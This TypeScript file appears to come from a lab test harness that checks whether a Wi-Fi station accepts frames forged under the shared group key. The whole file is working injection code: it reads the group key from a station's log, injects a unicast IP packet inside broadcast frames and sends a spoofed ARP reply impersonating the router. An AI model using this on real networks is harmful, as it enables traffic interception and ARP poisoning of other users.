// SPDX-License-Identifier: Apache-2.0
// Frames under the group key: every station of a BSS has it, so each can send "from the access point" to all, and no access point or switch sees it.
import { platform } from "quickjs-ts/platform";
import { arp, nonceFrame } from "../lab/packet.ts";
import { groupFrame, type GroupKey, keyIdOf, numberOf, parse } from "./air.ts";
import { newNonce } from "./arrives.ts";
import type { Field, Station } from "./field.ts";
import { hello } from "./stealing.ts";
import { sleep } from "../../qemu/guest/command.ts";

const broadcast = "ff:ff:ff:ff:ff:ff";
/** Packet numbers that the access point may use up while we look. */
const AHEAD = 16;
const TIMES = 3;

interface Heard extends GroupKey { number: number }

const octets = (words: string): string => words.replaceAll(" ", "");

/** The newest group key in the log of a station that shows its keys, and the packet number it came with. */
function keyOf(station: Station): Heard {
  const log = platform.files.readText(`/run/${station.name}.log`);
  const last = (pattern: RegExp): string => [...log.matchAll(pattern)].pop()?.[1] ?? "";
  const key = octets(last(/WPA: Group Key - hexdump\(len=16\): ([0-9a-f ]+)/g));
  if (key.length !== 32) throw new Error(`${station.name} wrote no group key into its log`);
  const number = octets(last(/WPA: RSC - hexdump\(len=6\): ([0-9a-f ]+)/g)).match(/../g)!.reverse().join("");
  return { key, id: Number(last(/Installing GTK to the driver \(keyidx=(\d)/g)), number: parseInt(number, 16) };
}

/** Sends to a station of the BSS at which the attacker is: whether an IP packet for it alone, inside a frame to all, and a lie about the router's address are taken. */
export async function injectUnderGroupKey({ attacker, router, say }: Field, victim: Station, bssid: string): Promise<boolean> {
  const air = await attacker.monitor(`type data and wlan addr2 ${bssid} and wlan addr1 ${broadcast}`);
  const heard = keyOf(attacker);
  const stop = air.watch((frame) => {
    const data = parse(frame);
    if (data?.encrypted && keyIdOf(data) === heard.id) heard.number = Math.max(heard.number, numberOf(data));
  });
  try {
    await attacker.send(hello(attacker.mac));
    await sleep(200);
    let number = heard.number + AHEAD;
    const inject = async (frame: Uint8Array): Promise<void> => air.send(await groupFrame(bssid, frame, heard, ++number));
    const nonce = newNonce();
    const arrival = victim.hears(nonce, 2000);
    for (let i = 0; i < TIMES; i++) await inject(nonceFrame({ from: router.mac, to: broadcast }, router.v4, victim.v4, nonce));
    for (let i = 0; i < TIMES; i++) await inject(arp({ from: router.mac, to: broadcast }, 2, { mac: attacker.mac, ip: router.v4 }, { mac: victim.mac, ip: victim.v4 }));
    const [packet, lie] = [(await arrival) !== undefined, (await victim.run(["ip", "neigh", "show", router.v4])).stdout.includes(attacker.mac)];
    say(`${victim.name} took the packet: ${packet}, the lie: ${lie}; packet number ${number} of key ${heard.id}`);
    return packet || lie;
  } finally {
    stop();
    air.close();
    await victim.run(["ip", "neigh", "flush", "all"]);
    // The access point's own numbers have to pass those that were taken.
    await router.flood(hello(router.mac), 2 * AHEAD, 100);
  }
}
